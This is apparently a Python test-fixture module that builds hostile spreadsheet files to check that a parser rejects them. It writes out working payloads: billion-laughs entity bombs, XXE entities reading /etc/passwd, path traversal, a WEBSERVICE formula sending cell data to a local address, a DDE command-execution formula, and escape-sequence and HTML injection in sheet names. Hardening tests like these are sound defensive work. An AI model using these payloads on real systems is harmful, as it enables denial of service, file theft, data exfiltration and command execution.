"""Spreadsheets with entities in their XML, and with cells at the end of the world."""

from hostile.spreadsheets import (
    GOOD,
    MEGABYTE,
    NO_SPREADSHEET,
    UNREADABLE,
    UNSAFE,
    book,
    cells,
    file,
    packed,
    parts,
    relations,
    shared,
    strings,
    styled,
    text_cell,
    workbook,
    worksheet,
)

_LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
_ENTITIES = f'<!DOCTYPE x [<!ENTITY l0 "ha">{_LAUGHS}]>'
_EXTERNAL = '<!DOCTYPE x [<!ENTITY l9 SYSTEM "file:///etc/passwd">]>'
_XML = "XML declarations"


def _many_rows(row, count):
    return "".join(row.replace("#", str(line)) for line in range(2, count + 2))


def _sheet_names(count):
    return "".join(f'<sheet name="S{n}" sheetId="{n}" r:id="rId1"/>' for n in range(1, count + 1))


def _sparse(place):
    return lambda: cells(GOOD + f'<row r="3">{text_cell(place, "x")}</row>')


def _with_sheet(rows="", **more):
    """A maker of a spreadsheet with these rows; long ones are made by a call."""
    return lambda: book(worksheet(rows() if callable(rows) else rows, **more))


ENTITIES = (
    file("a billion laughs in a sheet", lambda: book(_ENTITIES + worksheet(text_cell("A2", "&l9;"))), _XML),
    file("a billion laughs in shared strings", lambda: shared(GOOD, _ENTITIES + strings("<si><t>&l9;</t></si>")), _XML),
    file("a billion laughs in the workbook", lambda: book(xl__workbook_xml=workbook(before=_ENTITIES)), _XML),
    file("a file of the server in a sheet", lambda: book(_EXTERNAL + worksheet(text_cell("A2", "&l9;"))), _XML),
    file(
        "a file of the server in the relations",
        lambda: packed(parts() | {"xl/_rels/workbook.xml.rels": _EXTERNAL + relations()}),
        _XML,
    ),
    file("entities declared in UTF-16", lambda: book((_ENTITIES + worksheet(GOOD)).encode("utf-16")), _XML),
    file("entities declared in UTF-16 without BOM", lambda: book((_ENTITIES + worksheet()).encode("utf-16-be")), _XML),
    file("entities that nobody declared", _with_sheet(f'<row r="2">{text_cell("A2", "&l9;&xxe;")}</row>'), UNREADABLE),
    file(
        "a sheet that lies in another folder",
        lambda: packed(parts() | {"xl/_rels/workbook.xml.rels": relations("../../../../etc/passwd")}),
        UNREADABLE,
    ),
    file(
        "a sheet that lies at an address",
        lambda: packed(parts() | {"xl/_rels/workbook.xml.rels": relations("http://127.0.0.2/sheet1.xml")}),
        UNREADABLE,
    ),
)

SHEETS = (
    file("a cell at the very end of a sheet", _sparse("XFD1048576"), "more than 200,000 rows"),
    file("a cell in the last row", _sparse("A1048576"), "more than 200,000 rows"),
    file("a cell in the last column", _sparse("XFD3"), "columns"),
    file("a cell beyond all sheets", _sparse("A99999999999999999999"), "rows"),
    file("a cell in a column that can't be", _sparse("ZZZZZZZZZZ3"), "columns"),
    file("a cell at nought", _sparse("A0"), UNREADABLE),
    file("a cell nowhere", _sparse(""), UNREADABLE),
    file(
        "a far cell behind an attribute with a bracket",
        _with_sheet('<row r="3"><c x=">" r="XFD1048576"><v>1</v></c></row>'),
        UNSAFE,
    ),
    file("a far cell by the number of its row alone", _with_sheet('<row r="4000000000"><c><v>1</v></c></row>'), UNSAFE),
    file("a million cells that never end", lambda: book(worksheet("<c " * 5 * MEGABYTE)), "columns"),
    file("a cell of a million attributes", _with_sheet(lambda: f"<c {'a=' * MEGABYTE}"), "more than 20,000"),
    file("a sheet said to be as large as can be", _with_sheet(GOOD, before='<dimension ref="A1:XFD1048576"/>')),
    file("a sheet said to be smaller than nothing", _with_sheet(GOOD, before='<dimension ref="Z9:A1"/>')),
    file("a million levels of elements", _with_sheet(lambda: "<a>" * MEGABYTE)),
    file(
        "300,000 rows",
        lambda: cells(_many_rows('<row r="#"><c r="A#"><v>1</v></c></row>', 300_000)),
        "more than 200,000 rows",
    ),
    file("300 columns", lambda: cells(f'<row r="2">{"<c><v>1</v></c>" * 300}</row>'), "columns"),
    file(
        "strings that are not in the table",
        lambda: shared('<row r="2"><c r="A2" t="s"><v>4294967295</v></c></row>', strings()),
        UNREADABLE,
    ),
    file(
        "strings before the beginning of the table",
        lambda: shared('<row r="2"><c r="A2" t="s"><v>-1</v></c></row>', strings()),
    ),
    file(
        "days before and after all calendars",
        lambda: styled(["1e300", "-1e300", "NaN", "inf", "1e999", "99999999", "-5", "0"]),
        "holds a number that is none",
    ),
    file(
        "a cell of 100,000 letters",
        _with_sheet(f'<row r="2">{text_cell("A2", "x" * 100_000)}</row>'),
        "more than 20,000",
    ),
    file(
        "formulas that fetch and start programs",
        _with_sheet(
            f'<row r="2">{text_cell("A2", "2020-11-24")}{text_cell("B2", "call")}<c r="C2" t="str"><f>WEBSERVICE('
            "\"http://127.0.0.2/\"&amp;A1)</f><v>=cmd|'/C calc'!A0</v></c></row>"
        ),
    ),
    file(
        "control characters and half letters in XML",
        _with_sheet(
            f'<row r="2">{text_cell("A2", "2020-11-24")}{text_cell("B2", "call")}'
            f"{text_cell('C2', '&#27;[31m&#8238;_x0000__xD800_')}</row>"
        ),
    ),
    file(
        "a letter that XML does not have",
        _with_sheet(f'<row r="2">{text_cell("C2", "&#xD800;&#0;")}</row>'),
        UNREADABLE,
    ),
    file(
        "sheets nobody may see",
        lambda: book(xl__workbook_xml=workbook('<sheet name="Log" sheetId="1" state="veryHidden" r:id="rId1"/>')),
        "no sheet that is shown",
    ),
    file("10,000 sheets", lambda: book(xl__workbook_xml=workbook(_sheet_names(10_000)))),
    file(
        "a sheet named by an attack",
        lambda: book(
            xl__workbook_xml=workbook(
                '<sheet name="&#27;[31m&lt;img src=x&gt;" sheetId="1" r:id="rId1"/>'
                '<sheet name="![](//x)" sheetId="2" r:id="rId1"/>'
            )
        ),
    ),
    file("a workbook without sheets", lambda: book(xl__workbook_xml=workbook("")), "no sheet that is shown"),
    file("a workbook that is none", lambda: book(xl__workbook_xml="<html/>"), UNREADABLE),
    file("an empty workbook", lambda: book(xl__workbook_xml=""), UNREADABLE),
    file("macros", lambda: book(xl__vbaProject_bin=b"\xd0\xcf\x11\xe0" * 99), name="log.xlsm"),
    file(
        "an OpenDocument spreadsheet",
        lambda: packed({"mimetype": "application/vnd.oasis.opendocument.spreadsheet", "content.xml": _ENTITIES}),
        NO_SPREADSHEET,
        "log.ods",
    ),
    file("a binary spreadsheet", lambda: packed({"xl/workbook.bin": b"\x83\x01\x00"}), NO_SPREADSHEET, "log.xlsb"),
)


FILES = (*ENTITIES, *SHEETS)
